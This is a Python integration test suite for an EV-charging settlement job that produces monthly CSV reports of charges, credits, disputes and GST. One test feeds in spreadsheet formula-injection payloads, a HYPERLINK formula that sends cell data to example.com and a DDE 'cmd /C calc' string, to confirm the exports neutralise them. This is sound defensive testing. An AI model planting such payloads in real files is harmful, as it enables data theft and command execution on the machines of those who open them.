"""settle from end to end: what was pushed and checked becomes files that accounts can rest on."""

import csv
import hashlib
import io
import json
import random
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from emsp.invocation import InvalidInvocation
from emsp.settlement.dispute_case import dispute_id_of
from emsp.settlement.settle import TIME_KEPT_S
from tests.integration.charges.test_find_charges import ask
from tests.integration.house import House
from tests.integration.lambda_context import Context
from tests.integration.settlement.months import credit, push, pushed, rows, settle, text_of, total


def test_a_month_has_what_each_cpo_claims_what_is_right_and_what_is_to_be_paid(house: House) -> None:
    wrong = pushed("C-2", cost=300)
    push(
        house,
        pushed("C-1"),
        wrong,
        pushed("C-3", cost=200),
        pushed("C-4", charging_periods=None, tariffs=None),
        pushed(
            "C-5",
            cost=400,
            party_id="OTH",
            total_energy_cost={"excl_vat": 400},
            tariffs=[{**tariff_of("OTH")}],
        ),
        credit(wrong, "C-2-CREDIT"),
    )
    answer = settle(house)
    assert answer["state"] == "SETTLED"
    assert answer["manifest_s3"] == "s3://settlements/settlements/2026-10/manifest.json"
    assert json.loads(text_of(house, "settlements/2026-10/manifest.json")) == answer["manifest"]
    for file in answer["manifest"]["files"].values():
        content = text_of(house, file["key"]).encode()
        assert (len(content), hashlib.sha256(content).hexdigest()) == (file["bytes"], file["sha256"])

    cpo, other = rows(house, answer, "by_cpo.csv")
    assert (cpo["party_id"], other["party_id"]) == ("CPO", "OTH")
    assert (cpo["charges"], cpo["cdrs"], cpo["credit_cdrs"]) == ("4", "4", "1")
    assert (cpo["agreed_cdrs"], cpo["undercharged_cdrs"], cpo["cannot_tell_cdrs"]) == ("1", "1", "1")
    assert (cpo["credited_cdrs"], cpo["disputed_cdrs"], other["disputed_cdrs"]) == ("1", "0", "1")
    assert (cpo["claimed"], cpo["agreed"], cpo["credited"], cpo["credits"]) == ("1180", "295", "354", "-354")
    assert (cpo["net_excl_vat"], cpo["gst"], cpo["to_pay"]) == ("700", "126", "826")
    assert (other["disputed"], other["over_by"], other["to_pay_rounded"]) == ("472", "177", "472")

    [asked] = settle(house, cpo={"country_code": "in", "party_id": "oth"})["cpo"]
    assert asked == {name: int(asked[name]) if type(asked[name]) is int else other[name] for name in asked}
    assert (asked["party_id"], asked["undisputed"], asked["disputed"]) == ("OTH", "0", "472")
    assert (answer["cpo"], settle(house, cpo={"country_code": "IN", "party_id": "XYZ"})["cpo"]) == (None, [])

    charges = {row["charge"]: row for row in rows(house, answer, "charges.csv")}
    assert len(charges) == 5
    assert charges["IN#CPO#S-C-2"]["credit_cdr_ids"] == "C-2-CREDIT"
    assert charges["IN#CPO#S-C-2"]["to_pay"] == "0"
    assert charges["IN#CPO#S-C-1"]["start_local"] == "2026-10-15 15:25:00"
    assert charges["IN#OTH#S-C-5"]["claim_status"] == "disputed"
    assert charges["IN#OTH#S-C-5"]["difference"] == "177"
    disputes = rows(house, answer, "disputes.csv")
    assert {row["cdr_id"] for row in disputes} == {"C-5"}
    assert [row["about"] for row in disputes][:2] == ["TOTAL", "PART"]
    assert {row["dispute_state"] for row in disputes} == {"OPEN"}
    assert {row["dispute_id"] for row in disputes} == {dispute_id_of("IN#OTH#C-5")}
    for row in disputes[:2]:
        told = [row[name] for name in ("claimed_excl_vat", "claimed", "computed_excl_vat", "computed")]
        assert told == ["400", "472", "250", "295"]
        assert (row["difference_excl_vat"], row["difference"]) == ("150", "177")
    [line] = [row for row in disputes if row["about"] == "LINE"]
    assert (line["computed_excl_vat"], line["computed"]) == ("250", "295")
    assert (line["billed"], line["price"], line["tariff_id"]) == ("12.5", "20", "T1")


def test_every_amount_is_there_with_vat_and_without_where_the_cpo_claims_only_one(house: House) -> None:
    """The first is right, the second 40 too much; neither has incl_vat, nor has the credit of the third."""
    third = pushed("C-3", total_cost={"excl_vat": 250})
    push(
        house,
        pushed("C-1", total_cost={"excl_vat": 250}),
        pushed("C-2", total_cost={"excl_vat": 290}),
        third,
        credit(third, "C-3-X"),
    )
    answer = settle(house)
    charges = {row["charge"][-3:]: row for row in rows(house, answer, "charges.csv")}
    first, second, undone = (charges[name] for name in ("C-1", "C-2", "C-3"))
    assert (first["claimed_excl_vat"], first["claimed"], first["computed"]) == ("250", "295", "295")
    assert (first["difference_excl_vat"], first["difference"], first["vat_computed"]) == ("0", "0", "true")
    assert (second["difference_excl_vat"], second["difference"]) == ("40", "47.2")
    assert (second["to_pay"], second["disputed"], second["undisputed"]) == ("342.2", "342.2", "0")
    assert (undone["claimed"], undone["credits"], undone["to_pay"]) == ("295", "-295", "0")
    totals = answer["manifest"]["totals"]["INR"]
    assert (totals["to_pay"], totals["undisputed"], totals["disputed"]) == ("637.2", "295", "342.2")
    assert (totals["net_excl_vat"], totals["undisputed_excl_vat"]) == ("540", "250")
    assert (totals["over_by_excl_vat"], totals["over_by"]) == ("40", "47.2")
    for row in rows(house, answer, "cdrs.csv"):
        assert (row["excl_vat"] != "", row["incl_vat"] != "", row["vat_computed"]) == (True, True, "true")
    (total,) = (row for row in rows(house, answer, "disputes.csv") if row["about"] == "TOTAL")
    assert (total["claimed_excl_vat"], total["claimed"]) == ("290", "342.2")
    assert (total["difference_excl_vat"], total["difference"]) == ("40", "47.2")


def test_a_credit_leaves_what_it_does_not_take_back_claimed_and_disputed(house: House) -> None:
    nothing, partly, enough = (pushed(f"C-{number}", cost=300) for number in range(3))
    absurd = pushed("C-3", total_cost={"excl_vat": 250, "incl_vat": 10_000})
    push(
        house,
        nothing,
        credit(nothing, "C-0-X", total_cost={"excl_vat": 0, "incl_vat": 0}),
        partly,
        credit(partly, "C-1-X", total_cost={"excl_vat": -20, "incl_vat": -23.6}),
        enough,
        credit(enough, "C-2-X", total_cost={"excl_vat": -50, "incl_vat": -59}),
        absurd,
        credit(absurd, "C-3-X", total_cost={"excl_vat": -250, "incl_vat": -295}),
    )
    answer = settle(house)
    charges = {row["charge"][-3:]: row for row in rows(house, answer, "charges.csv")}
    stands = {
        name: (row["claim_status"], row["to_pay"], row["disputed"], row["notes"])
        for name, row in charges.items()
    }
    assert stands == {
        "C-0": ("disputed", "354", "354", "PARTLY_CREDITED"),
        "C-1": ("disputed", "330.4", "330.4", "PARTLY_CREDITED"),
        "C-2": ("agreed", "295", "0", "PARTLY_CREDITED"),
        "C-3": ("disputed", "9705", "9705", "PARTLY_CREDITED"),
    }
    totals = answer["manifest"]["totals"]["INR"]
    # 3 x 354 + 10,000 are claimed; 0, 23.6, 59 and 295 of that are taken back
    assert (totals["claimed"], totals["credited"], totals["credits"]) == ("11062", "377.6", "-377.6")
    assert (totals["disputed"], totals["agreed"], totals["to_pay"]) == ("10389.4", "295", "10684.4")
    assert (totals["credited_cdrs"], totals["disputed_cdrs"], totals["undisputed"]) == (0, 3, "295")
    assert totals["over_by"] == "9504.4"  # 59 + 35.4 + 9,410
    assert {row["cdr_id"] for row in rows(house, answer, "disputes.csv")} == {"C-0", "C-1", "C-3"}


def test_a_credit_of_a_later_month_is_known_where_its_cdr_is_settled(house: House) -> None:
    whole, partly = pushed("C-1", cost=300), pushed("C-2", cost=300)
    push(
        house,
        whole,
        partly,
        credit(whole, "C-1-X", end_date_time="2026-11-03T10:00:00Z"),
        credit(
            partly,
            "C-2-X",
            end_date_time="2026-11-03T10:00:00Z",
            total_cost={"excl_vat": -10, "incl_vat": -11.8},
        ),
    )
    october, november = (
        settle(house, month)["manifest"]["totals"]["INR"] for month in ("2026-10", "2026-11")
    )
    assert (october["to_pay"], october["disputed"], october["credited"]) == ("708", "342.2", "365.8")
    assert (october["undisputed"], november["undisputed"]) == ("365.8", "-365.8")
    assert (november["to_pay"], november["disputed"]) == ("-365.8", "0")


@pytest.mark.parametrize(
    ("end", "is_odd"),
    [
        ("1970-01-01T00:40:00Z", True),
        ("0001-01-01T00:00:00Z", True),
        ("2126-10-15T10:40:00Z", True),
        ("9999-12-31T23:59:59Z", True),
        ("2000-01-01T00:00:00Z", True),
        ("a year and a day ago", False),
        ("a year and two days ago", True),
        ("tomorrow", False),
        ("the day after tomorrow", True),
    ],
)
def test_a_cdr_whose_end_can_not_be_is_settled_when_it_was_received(
    house: House, end: str, is_odd: bool
) -> None:
    now = datetime.now(UTC)
    days = {
        "a year and a day ago": -366,
        "a year and two days ago": -367,
        "tomorrow": 1,
        "the day after tomorrow": 2,
    }
    # A minute less: the CDR is received after this.
    moment = now + timedelta(days=days.get(end, 0), minutes=-1 if days.get(end, 0) > 0 else 1)
    told = f"{moment:%Y-%m-%dT%H:%M:%SZ}" if end in days else end
    odd = pushed("ODD", end_date_time=told, start_date_time=told)
    push(house, odd, checked=False)
    answer = settle(house, f"{now.astimezone(ZoneInfo('Asia/Kolkata')):%Y-%m}")
    listed = [row["cdr_id"] for row in rows(house, answer, "odd_dates.csv")]
    said = answer["manifest"]["odd_dates"]
    if not is_odd:
        assert (listed, said["count"]) == ([], 0)
        return
    assert listed == ["ODD"]
    assert said["count"] == answer["manifest"]["totals"]["INR"]["odd_dates"] == 1
    assert said["cdrs"][0]["cdr"] == {"country_code": "IN", "party_id": "CPO", "id": "ODD"}
    assert said["cdrs"][0]["end_date_time"] == told
    [row] = rows(house, answer, "cdrs.csv")
    assert (row["cdr_id"], row["incl_vat"]) == ("ODD", "295")
    assert answer["manifest"]["totals"]["INR"]["to_pay"] == "295"


def tariff_of(party_id: str) -> dict[str, Any]:
    tariff: dict[str, Any] = {**pushed("C")["tariffs"][0], "party_id": party_id}
    return tariff


def test_sums_are_those_of_the_rows(house: House) -> None:
    choice = random.Random(7)
    cdrs = [
        pushed(f"C-{number}", f"2026-10-{choice.randint(2, 30):02}", cost=choice.randint(1, 99_999) / 100)
        for number in range(30)
    ]
    push(house, *cdrs, *(credit(each, f"{each['id']}-X") for each in cdrs[:5]))
    answer = settle(house)
    charges, by_cpo = rows(house, answer, "charges.csv"), rows(house, answer, "by_cpo.csv")
    amounts = ("claimed", "credits", "undisputed", "disputed")
    for column in ("net_excl_vat", "gst", "to_pay", *amounts, *(f"{each}_excl_vat" for each in amounts)):
        assert total(charges, column) == total(by_cpo, column), column
    totals = answer["manifest"]["totals"]["INR"]
    assert Decimal(totals["to_pay"]) == total(charges, "to_pay")
    assert total(by_cpo, "net_excl_vat") + total(by_cpo, "gst") == total(by_cpo, "to_pay")
    assert total(by_cpo, "undisputed") + total(by_cpo, "disputed") == total(by_cpo, "to_pay")
    standings = ("agreed", "undercharged", "disputed", "cannot_tell", "credited")
    assert sum(total(by_cpo, each) for each in standings) == total(by_cpo, "claimed")


@pytest.mark.parametrize("seed", range(6))
def test_the_months_of_a_charge_add_up_to_its_net(house: House, seed: int) -> None:
    """Credits come in any month, twice, for what never came, and before what they credit; some CDRs and
    their credits have no incl_vat.
    """
    choice = random.Random(seed)
    months = ["2026-08", "2026-09", "2026-10"]

    def day() -> str:
        return f"{choice.choice(months)}-{choice.randint(2, 28):02}"

    cdrs: list[dict[str, Any]] = []
    for number in range(12):
        value = pushed(f"C-{number}", day(), cost=choice.randint(1, 50_000) / 100)
        if choice.random() < 0.3:
            del value["total_cost"]["incl_vat"]
        cdrs.append(value)
        for copy in range(choice.choice([0, 0, 1, 2])):
            changes: dict[str, Any] = {"end_date_time": f"{day()}T11:00:00Z"}
            if choice.random() < 0.3:
                changes["total_cost"] = {"excl_vat": -10, "incl_vat": -11.8}
            if choice.random() < 0.2:
                changes["credit_reference_id"] = f"NEVER-{number}"
            made = credit(value, f"C-{number}-X{copy}", **changes)
            if choice.random() < 0.5 and not copy:
                del made["session_id"]
            cdrs.append(made)
    choice.shuffle(cdrs)
    push(house, *cdrs, checked=seed % 2 == 0)
    settled: dict[str, Decimal] = {}
    for month in months:
        for row in rows(house, settle(house, month), "charges.csv"):
            to_pay = Decimal(row["to_pay"])
            assert Decimal(row["undisputed"]) + Decimal(row["disputed"]) == to_pay
            assert Decimal(row["net_excl_vat"]) + Decimal(row["gst"]) == to_pay
            settled[row["charge"]] = settled.get(row["charge"], Decimal(0)) + to_pay
    found: dict[str, Decimal] = {}
    for number in range(12):
        reference = {"country_code": "IN", "party_id": "CPO", "id": f"S-C-{number}"}
        (charge,) = ask(house, {"session": reference})["charges"]
        found[f"IN#CPO#S-C-{number}"] = Decimal(charge["net"]["incl_vat"])
    assert {charge: each for charge, each in settled.items() if each or charge in found} == found


def test_a_month_is_one_of_local_midnights_and_each_cdr_is_in_one(house: House) -> None:
    """The first CDR ends at 23:59 on 30 September in Kolkata, the second a minute later."""
    push(
        house,
        pushed("SEP", "2026-09-30", end_date_time="2026-09-30T18:29:59Z"),
        pushed("OCT", "2026-09-30", end_date_time="2026-09-30T18:30:00Z"),
        pushed("LAST", "2026-10-31", end_date_time="2026-10-31T18:29:59.999999999Z"),
        pushed("NOV", "2026-10-31", end_date_time="2026-10-31T18:30:00Z"),
    )
    listed = {
        month: {row["cdr_id"] for row in rows(house, settle(house, month), "cdrs.csv")}
        for month in ("2026-09", "2026-10", "2026-11")
    }
    assert listed == {"2026-09": {"SEP"}, "2026-10": {"OCT", "LAST"}, "2026-11": {"NOV"}}


def test_a_month_settled_again_is_the_same_until_something_comes_later(house: House) -> None:
    first_cdr = pushed("C-1")
    push(house, first_cdr, pushed("C-2"))
    first = settle(house)
    again = settle(house)
    assert again["state"] == "UNCHANGED"
    assert again["manifest"] == first["manifest"]

    push(house, pushed("C-3", "2026-10-03"), credit(first_cdr, "C-1-X"))
    later = settle(house)
    assert later["state"] == "SETTLED"
    assert later["manifest"]["settlement"] != first["manifest"]["settlement"]
    said = later["manifest"]["later"]
    assert (said["than"], said["added"], said["changed"], said["gone"]) == (
        first["manifest"]["settlement"],
        1,
        1,
        0,
    )
    changes = {row["charge"]: row for row in rows(house, later, "changes.csv")}
    assert changes["IN#CPO#S-C-3"]["to_pay_more"] == "295"
    credited = changes["IN#CPO#S-C-1"]
    assert (credited["change"], credited["to_pay_before"], credited["to_pay_now"]) == ("CHANGED", "295", "0")
    assert credited["to_pay_more"] == "-295"
    assert rows(house, first, "charges.csv"), "an earlier settlement stays as it was"
    assert settle(house)["state"] == "UNCHANGED"


def test_a_settlement_that_takes_too_long_goes_on_and_gives_the_same_bytes(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    push(house, *(pushed(f"C-{day}", f"2026-10-{day:02}") for day in range(2, 9)))
    whole = settle(house)
    house.s3.delete_object(Bucket="settlements", Key="settlements/2026-10/manifest.json")

    calls: list[dict[str, Any]] = []
    monkeypatch.setattr(house.app("settle"), "invoke_again", calls.append)
    answer = settle(house, "2026-10", 600, 600, TIME_KEPT_S - 1)
    assert answer["state"] == "CONTINUES"
    assert answer["manifest"] is None
    push(house, pushed("MEANWHILE", "2026-10-20"))
    rounds = 0
    while answer["state"] == "CONTINUES":
        payload = json.loads(json.dumps(calls.pop()))
        answer = settle(house, payload.pop("month"), 600, TIME_KEPT_S - 1, **payload)
        rounds += 1
    assert rounds >= 4
    assert answer["manifest"]["settlement"] == whole["manifest"]["settlement"]
    assert settle(house)["manifest"]["later"]["added"] == 1


def test_no_cell_is_a_formula_and_no_row_names_the_driver(house: House) -> None:
    evil = pushed("C-1")
    evil["cdr_location"] = {**evil["cdr_location"], "name": '=HYPERLINK("http://example.com?"&A1,"x")'}
    evil["authorization_reference"] = "+1+cmd|' /C calc'!A0"
    push(house, evil, pushed("@SUM(A1)", cost=999), pushed("C-2", cost=-5))
    answer = settle(house)
    numbers = {"claimed", "credits", "net_excl_vat", "gst", "to_pay", "computed", "difference"}
    for name in ("charges.csv", "cdrs.csv", "disputes.csv", "by_cpo.csv"):
        text = text_of(house, answer["manifest"]["files"][name]["key"])
        assert "TOKEN1" not in text
        assert "IN-EMS-C00000001" not in text
        for row in csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))):
            for column, cell in row.items():
                dangerous = cell.startswith(("=", "+", "-", "@", "\t"))
                assert not dangerous or cell[1:].replace(".", "").isdigit(), (name, column, cell)
    [named] = [row for row in rows(house, answer, "charges.csv") if row["location_name"]]
    assert named["location_name"].startswith("'=HYPERLINK")
    assert numbers <= named.keys()


def test_what_makes_no_sense_is_in_it_and_told(house: House) -> None:
    first = pushed("C-1")
    push(
        house,
        first,
        pushed("C-2", session_id=first["session_id"], currency="USD"),
        pushed("C-3", total_cost={"excl_vat": 10}),
    )
    charges = {row["charge"]: row for row in rows(house, settle(house), "charges.csv")}
    assert charges["IN#CPO#S-C-1"]["notes"] == "SEVERAL_CURRENCIES"
    assert charges["IN#CPO#S-C-1"]["to_pay"] == ""
    without_vat = charges["IN#CPO#S-C-3"]
    assert (without_vat["gst"], without_vat["to_pay"], without_vat["vat_computed"]) == ("1.8", "11.8", "true")
    by_cpo = rows(house, settle(house), "by_cpo.csv")
    assert total(by_cpo, "not_told") == 1
    assert total(by_cpo, "cdrs") == 3


def test_a_month_without_cdrs_is_settled_too(house: House) -> None:
    answer = settle(house, "2026-02")
    assert answer["state"] == "SETTLED"
    assert rows(house, answer, "charges.csv") == []
    assert answer["manifest"]["totals"] == {}


@pytest.mark.parametrize(
    ("payload", "says"),
    [
        ({"month": "2026-13"}, "month must match"),
        ({"month": "last"}, "month must match"),
        ({}, "month is missing"),
        ({"month": "2099-01"}, "month 2099-01 has not begun"),
        ({"month": "2026-10", "invoice_s3": "s3://elsewhere/invoices/a.csv"}, "put the file there"),
        ({"month": "2026-10", "invoice_s3": "s3://settlements/parts/a.csv"}, "put the file there"),
        ({"month": "2026-10", "invoice_s3": "https://example.com/a.csv"}, "invoice_s3 must match"),
        (
            {"month": "2026-10", "invoice_s3": "s3://settlements/invoices/none.csv"},
            "put the invoice there first",
        ),
    ],
)
def test_a_payload_that_can_not_be_is_told_so(house: House, payload: dict[str, Any], says: str) -> None:
    with pytest.raises(InvalidInvocation, match=says):
        house.app("settle").handler(payload, Context(900))
